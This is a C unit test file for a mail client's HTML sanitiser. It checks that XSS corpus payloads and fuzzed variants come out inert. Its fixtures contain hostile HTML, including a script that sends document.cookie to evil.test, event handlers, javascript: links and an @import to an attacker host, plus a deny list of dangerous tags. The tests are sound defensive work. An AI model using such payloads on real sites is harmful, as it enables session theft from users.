/* SPDX-License-Identifier: MIT */
/*
 * Unit tests for the mail HTML sanitiser: harmless markup survives, and not
 * one payload of the XSS corpus (tests/unit/web/xss_corpus.txt) leaves a
 * script, an event handler, a dangerous URL or a loading element in the
 * output. The browser test (tests/e2e) checks the same corpus in Chromium.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/core.h"
#include "web/web.h"

static char *sanitize(const char *in, int remote)
{
	struct qm_buf out;
	struct qm_error e;
	char *s;

	qm_buf_init(&out, 1 << 20);
	assert_int_equal(qm_web_html_sanitize(in, strlen(in), remote, &out, &e),
	                 QM_OK);
	s = strdup(out.data ? (char *)out.data : "");
	qm_buf_free(&out);
	assert_non_null(s);
	return s;
}

static void lower(char *s)
{
	for (; *s; s++)
		*s = (char)tolower((unsigned char)*s);
}

/* Fails the test when the sanitised output has anything that could run or
 * load: checked per tag of the output. */
static void assert_inert(const char *payload, const char *out)
{
	static const char *const bad_tags[] = {
		"<script", "<iframe", "<object", "<embed", "<svg", "<math", "<form",
		"<style", "<meta", "<link", "<base", "<input", "<select", "<textarea",
		"<video", "<audio", "<frameset", "<frame", "<template", "<portal",
		"<button", "<isindex", "<keygen", "<marquee", "<body", "<noscript",
		"<xmp", "<source", "<animate", NULL};
	char *low = strdup(out), *p;
	size_t i;


	assert_non_null(low);
	lower(low);
	for (i = 0; bad_tags[i]; i++)
		if (strstr(low, bad_tags[i])) {
			print_error("payload: %s\noutput: %s\nfound %s\n", payload, out,
			            bad_tags[i]);
			fail();
		}
	/* every tag of the output: <name attr="value" ...> (the sanitiser
	 * always quotes with '"' and escapes '"' inside values) */
	for (p = strchr(low, '<'); p; p = strchr(p + 1, '<')) {
		char *q = p + 1;
		if (*q == '/')
			continue;
		while (isalnum((unsigned char)*q))
			q++;
		for (;;) {
			char name[64], value[8192];
			size_t nl = 0, vl = 0;
			while (*q == ' ')
				q++;
			if (*q == '>' || *q == '\0')
				break;
			while (*q && *q != '=' && *q != ' ' && *q != '>' && nl + 1 < sizeof(name))
				name[nl++] = *q++;
			name[nl] = '\0';
			value[0] = '\0';
			if (*q == '=') {
				q++;
				if (*q != '"') {
					print_error("payload: %s\noutput: %s\nunquoted value\n", payload, out);
					fail();
				}
				q++;
				while (*q && *q != '"' && vl + 1 < sizeof(value))
					value[vl++] = *q++;
				value[vl] = '\0';
				if (*q == '"')
					q++;
			}
			if (strncmp(name, "on", 2) == 0 || strcmp(name, "srcdoc") == 0 ||
			    strcmp(name, "background") == 0 || strcmp(name, "action") == 0 ||
			    strcmp(name, "formaction") == 0) {
				print_error("payload: %s\noutput: %s\nattribute %s\n", payload, out,
				            name);
				fail();
			}
			if ((strcmp(name, "href") == 0 &&
			     strncmp(value, "http://", 7) != 0 && strncmp(value, "https://", 8) != 0 &&
			     strncmp(value, "mailto:", 7) != 0) ||
			    (strcmp(name, "src") == 0 && strncmp(value, "https://", 8) != 0 &&
			     strncmp(value, "data:image/png;", 15) != 0 &&
			     strncmp(value, "data:image/gif;", 15) != 0 &&
			     strncmp(value, "data:image/jpeg;", 16) != 0 &&
			     strncmp(value, "data:image/webp;", 16) != 0) ||
			    (strcmp(name, "src") == 0 && strstr(value, "127.0.0.1")) ||
			    (strcmp(name, "style") == 0 &&
			     (strstr(value, "url(") || strstr(value, "expression") ||
			      strstr(value, "\\") || strstr(value, "@")))) {
				print_error("payload: %s\noutput: %s\n%s=\"%s\"\n", payload, out,
				            name, value);
				fail();
			}
		}
	}
	free(low);
}

static void test_keeps_harmless_markup(void **state)
{
	char *s;

	(void)state;
	s = sanitize("<p>Hello <b>world</b> &amp; <i>friends</i></p>", 0);
	assert_string_equal(s, "<p>Hello <b>world</b> &amp; <i>friends</i></p>");
	free(s);
	s = sanitize("<a href=\"https://example.org/a?b=1&amp;c=2\">x</a>", 0);
	assert_string_equal(s, "<a href=\"https://example.org/a?b=1&amp;c=2\" "
	                       "target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
	free(s);
	s = sanitize("<table border=1><tr><td colspan=2>c</td></tr></table>", 0);
	assert_string_equal(s, "<table border=\"1\"><tr><td colspan=\"2\">c</td>"
	                       "</tr></table>");
	free(s);
	s = sanitize("<div style=\"color: red; font-weight: bold\">r</div>", 0);
	assert_string_equal(s, "<div style=\"color: red; font-weight: bold\">r</div>");
	free(s);
}

static void test_closes_and_escapes(void **state)
{
	char *s;

	(void)state;
	s = sanitize("<ul><li>one<li>two", 0);
	assert_string_equal(s, "<ul><li>one<li>two</li></li></ul>");
	free(s);
	s = sanitize("a < b > c \"q\" 'a' & d", 0);
	assert_string_equal(s, "a &lt; b &gt; c &quot;q&quot; &#39;a&#39; &amp; d");
	free(s);
	s = sanitize("<unknown>kept text</unknown>", 0);
	assert_string_equal(s, "kept text");
	free(s);
	s = sanitize("<script>gone()</script>after", 0);
	assert_string_equal(s, "after");
	free(s);
	s = sanitize("<style>p{}</style><!-- c --><p>x</p>", 0);
	assert_string_equal(s, "<p>x</p>");
	free(s);
}

static void test_images(void **state)
{
	char *s;

	(void)state;
	s = sanitize("<img src=\"https://example.org/t.png\" alt=\"logo\">", 0);
	assert_string_equal(s, "[logo]");
	free(s);
	s = sanitize("<img src=\"https://example.org/t.png\" alt=\"logo\">", 1);
	assert_string_equal(s, "<img src=\"https://example.org/t.png\" alt=\"logo\" "
	                       "referrerpolicy=\"no-referrer\">");
	free(s);
	s = sanitize("<img src=\"http://example.org/t.png\">", 1);
	assert_string_equal(s, "");
	free(s);
	s = sanitize("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", 0);
	assert_string_equal(s, "<img src=\"data:image/png;base64,iVBORw0KGgo=\" "
	                       "referrerpolicy=\"no-referrer\">");
	free(s);
}

static void test_output_limit(void **state)
{
	struct qm_buf out;
	struct qm_error e;
	const char *in = "<p>0123456789012345678901234567890123456789</p>";

	(void)state;
	qm_buf_init(&out, 16);
	assert_int_equal(qm_web_html_sanitize(in, strlen(in), 0, &out, &e),
	                 QM_ERR_TOOBIG);
	qm_buf_free(&out);
}

static void test_xss_corpus(void **state)
{
	char path[4096], line[8192];
	FILE *f;
	int n = 0;
	const char *src = getenv("QM_SOURCE_DIR");

	(void)state;
	snprintf(path, sizeof(path), "%s/tests/unit/web/xss_corpus.txt",
	         src ? src : ".");
	f = fopen(path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		char *s;
		line[strcspn(line, "\n")] = '\0';
		if (!line[0])
			continue;
		s = sanitize(line, 0);
		assert_inert(line, s);
		free(s);
		s = sanitize(line, 1);
		assert_inert(line, s);
		free(s);
		n++;
	}
	fclose(f);
	assert_true(n >= 50);
}

/* Truncated and binary input never reads out of bounds (ASan watches). */
static void test_truncations(void **state)
{
	const char *in = "<a href=\"javascript:x\" title='t'>x</a><img src=x "
	                 "onerror=y><!-- <p>&#x6A;&#106";
	size_t n = strlen(in), k;

	(void)state;
	for (k = 0; k <= n; k++) {
		struct qm_buf out;
		char *copy = malloc(k ? k : 1);
		assert_non_null(copy);
		memcpy(copy, in, k);
		qm_buf_init(&out, 1 << 16);
		assert_int_equal(qm_web_html_sanitize(copy, k, 0, &out, NULL), QM_OK);
		if (out.data)
			assert_inert(in, (char *)out.data);
		qm_buf_free(&out);
		free(copy);
	}
}

/* Mutations of the corpus (a fixed pseudo-random sequence, so a failure
 * repeats): bytes that matter to HTML inserted, replaced and dropped. Under
 * ASan this is a small deterministic fuzzer; every output must be inert. */
static void test_mutations(void **state)
{
	static const char alphabet[] = "<>\"'=/ \t\n&#;:!-`\\\x00\xc3\xa9\xff"
	                               "onerrorjavascriptscriptsvgiframeurl(";
	char path[4096], lines[128][512], buf[1024];
	uint32_t x = 12345;
	int n = 0, i, k;
	const char *src = getenv("QM_SOURCE_DIR");
	FILE *f;

	(void)state;
	snprintf(path, sizeof(path), "%s/tests/unit/web/xss_corpus.txt",
	         src ? src : ".");
	f = fopen(path, "r");
	assert_non_null(f);
	while (n < 128 && fgets(lines[n], sizeof(lines[n]), f)) {
		lines[n][strcspn(lines[n], "\n")] = '\0';
		n++;
	}
	fclose(f);
	for (i = 0; i < 20000; i++) {
		size_t len;
		struct qm_buf out;
		x = x * 1664525u + 1013904223u;
		len = strlen(lines[x % (uint32_t)n]);
		memcpy(buf, lines[x % (uint32_t)n], len);
		for (k = 0; k < 4; k++) {
			size_t at;
			x = x * 1664525u + 1013904223u;
			at = len ? (x >> 8) % len : 0;
			switch ((x >> 4) % 3) {
			case 0: /* insert */
				if (len + 1 < sizeof(buf)) {
					memmove(buf + at + 1, buf + at, len - at);
					buf[at] = alphabet[(x >> 16) % (sizeof(alphabet) - 1)];
					len++;
				}
				break;
			case 1: /* replace */
				if (len)
					buf[at] = alphabet[(x >> 16) % (sizeof(alphabet) - 1)];
				break;
			default: /* drop */
				if (len) {
					memmove(buf + at, buf + at + 1, len - at - 1);
					len--;
				}
			}
		}
		qm_buf_init(&out, 1 << 16);
		assert_int_equal(qm_web_html_sanitize(buf, len, (int)(x & 1), &out, NULL),
		                 QM_OK);
		if (out.data) {
			/* NUL bytes in the output would cut the check short */
			assert_int_equal(strlen((char *)out.data), out.len);
			buf[len] = '\0';
			assert_inert(buf, (char *)out.data);
		}
		qm_buf_free(&out);
	}
}

/* The rich-text editor's HTML as a hostile page could post it: what is
 * sent (and so what the recipient reads) is the sanitiser's output, and
 * the text part is made from it. */
static void test_compose_html(void **state)
{
	static const char hostile[] =
	    "<p onclick=\"steal()\">Hello <b>world</b></p>"
	    "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
	    "<img src=\"https://evil.test/track.png\" onerror=\"x()\">"
	    "<a href=\"javascript:alert(1)\">click</a> "
	    "<a href=\"https://qmail.test/doc\">doc</a>"
	    "<ul><li>one</li></ul><blockquote>quoted</blockquote>";
	struct qm_buf clean, text;
	struct qm_error e;
	char *lc;

	(void)state;
	qm_buf_init(&clean, 1 << 16);
	qm_buf_init(&text, 1 << 16);
	assert_int_equal(
	    qm_web_compose_html(hostile, strlen(hostile), &clean, &text, &e),
	    QM_OK);
	lc = strdup((char *)clean.data);
	assert_non_null(lc);
	lower(lc);
	assert_null(strstr(lc, "<script"));
	assert_null(strstr(lc, "cookie"));
	assert_null(strstr(lc, "onclick"));
	assert_null(strstr(lc, "onerror"));
	assert_null(strstr(lc, "evil.test"));
	assert_null(strstr(lc, "javascript:"));
	/* what the editor makes survives */
	assert_non_null(strstr(lc, "<b>world</b>"));
	assert_non_null(strstr(lc, "<li>one</li>"));
	assert_non_null(strstr(lc, "<blockquote>"));
	assert_non_null(strstr(lc, "href=\"https://qmail.test/doc\""));
	free(lc);
	assert_non_null(strstr((char *)text.data, "Hello world"));
	assert_non_null(strstr((char *)text.data, "* one"));
	assert_non_null(strstr((char *)text.data, "> quoted"));
	assert_non_null(
	    strstr((char *)text.data, "doc <https://qmail.test/doc>"));
	assert_null(strstr((char *)text.data, "javascript"));
	assert_null(strstr((char *)text.data, "cookie"));
	qm_buf_free(&clean);
	qm_buf_free(&text);
}

/* cid: images come from the message's own image parts, in place (as data:
 * URLs); a cid naming a part that is no image, or no part of this message
 * (another message's, or none), is dropped like a remote image. */
static void test_cid_own_parts(void **state)
{
	static const unsigned char png[] = {0x89, 'P', 'N', 'G', '\r', '\n'};
	static const char html[] =
	    "<p>logo <img src=\"cid:logo@x.test\" alt=\"logo\"></p>"
	    "<img src=\"CID:pic%40x.test\">"
	    "<img src=\"cid:script@x.test\" alt=\"js\">"
	    "<img src=\"cid:other-message@x.test\" alt=\"other\">"
	    "<a href=\"cid:logo@x.test\">link</a>";
	const struct qm_web_inline parts[] = {
	    {"logo@x.test", "image/png", png, sizeof(png)},
	    {"pic@x.test", "image/gif", png, sizeof(png)},
	    {"script@x.test", "text/html", (const unsigned char *)"<script>",
	     8},
	};
	struct qm_buf out;
	struct qm_error e;
	const char *o;

	(void)state;
	qm_buf_init(&out, 1 << 16);
	assert_int_equal(qm_web_html_sanitize_parts(html, strlen(html), 0,
	                                            parts, 3, &out, &e),
	                 QM_OK);
	o = (const char *)out.data;
	/* the logo in place, from the part's own bytes */
	assert_non_null(
	    strstr(o, "<img src=\"data:image/png;base64,iVBORw0K\""));
	assert_non_null(strstr(o, "src=\"data:image/gif;base64,iVBORw0K\""));
	/* no cid: is left, and nothing is loaded from anywhere */
	assert_null(strstr(o, "cid:"));
	assert_null(strstr(o, "CID:"));
	assert_null(strstr(o, "text/html"));
	/* the refused ones leave their alt text, as a remote image does */
	assert_non_null(strstr(o, "[js]"));
	assert_non_null(strstr(o, "[other]"));
	/* a link to a part is no image: dropped (no href) */
	assert_non_null(strstr(o, "<a target="));
	qm_buf_free(&out);

	/* without the message's parts (another message's HTML shown), the
	 * same cid: is refused */
	qm_buf_init(&out, 1 << 16);
	assert_int_equal(qm_web_html_sanitize(html, strlen(html), 1, &out, &e),
	                 QM_OK);
	assert_null(strstr((char *)out.data, "data:image"));
	assert_null(strstr((char *)out.data, "cid:"));
	qm_buf_free(&out);
}

/* Issue 16: remote images counted (https, http, scheme-less; not data:,
 * not ones inside dropped elements, not other tags' URLs), and the text
 * of hostile HTML: nothing of script, style, title or noscript, every
 * payload of the XSS corpus converted without a fault (ASan watches). */
static void test_remote_count_and_text(void **state)
{
	static const char html[] =
	    "<img src=\"https://a.example/1.png\"><img src=' HTTPS://b.example/2'>"
	    "<img src=\"http://c.example/3.png\"><img src=\"//d.example/4\">"
	    "<img src=\"data:image/png;base64,AAAA\"><img src=\"cid:x@y\">"
	    "<img src=\"javascript:alert(1)\"><img alt=\"no src\">"
	    "<script><img src=\"https://e.example/5\"></script>"
	    "<noscript><img src=\"https://f.example/6\"></noscript>"
	    "<a href=\"https://g.example/\">link</a>";
	static const char hostile[] =
	    "<head><title>T-SECRET</title><style>S-SECRET</style></head>"
	    "<script>X-SECRET</script><noscript>N-SECRET</noscript>"
	    "<template>TPL-SECRET</template><p onmouseover=\"alert(1)\">"
	    "ok<svg><script>SVG-SECRET</script></svg></p>"
	    "<style>@import 'https://evil.example/'; C-SECRET</style>"
	    "<scr<script>ipt>alert(1)</script>";
	struct qm_web_html_stats st;
	struct qm_buf out;
	struct qm_error e;
	char path[4096], line[8192];
	FILE *f;
	const char *src = getenv("QM_SOURCE_DIR");

	(void)state;
	qm_buf_init(&out, 1 << 20);
	assert_int_equal(qm_web_html_sanitize_stats(html, strlen(html), 0,
	                                            NULL, 0, &out, &st, &e),
	                 QM_OK);
	assert_int_equal(st.remote_images, 4);
	assert_int_equal(st.remote_http, 2);
	qm_buf_free(&out);

	qm_buf_init(&out, 1 << 20);
	assert_int_equal(
	    qm_web_html_text(hostile, strlen(hostile), &out, &st, &e), QM_OK);
	assert_int_equal(qm_buf_append(&out, "", 1, &e), QM_OK);
	printf("  text: [%s]\n", (char *)out.data);
	assert_null(strstr((char *)out.data, "SECRET"));
	assert_non_null(strstr((char *)out.data, "ok"));
	qm_buf_free(&out);

	snprintf(path, sizeof(path), "%s/tests/unit/web/xss_corpus.txt",
	         src ? src : ".");
	f = fopen(path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		qm_buf_init(&out, 1 << 20);
		assert_int_equal(
		    qm_web_html_text(line, strlen(line), &out, &st, &e), QM_OK);
		qm_buf_free(&out);
	}
	fclose(f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_keeps_harmless_markup),
	    cmocka_unit_test(test_closes_and_escapes),
	    cmocka_unit_test(test_images),
	    cmocka_unit_test(test_output_limit),
	    cmocka_unit_test(test_xss_corpus),
	    cmocka_unit_test(test_truncations),
	    cmocka_unit_test(test_mutations),
	    cmocka_unit_test(test_compose_html),
	    cmocka_unit_test(test_cid_own_parts),
	    cmocka_unit_test(test_remote_count_and_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
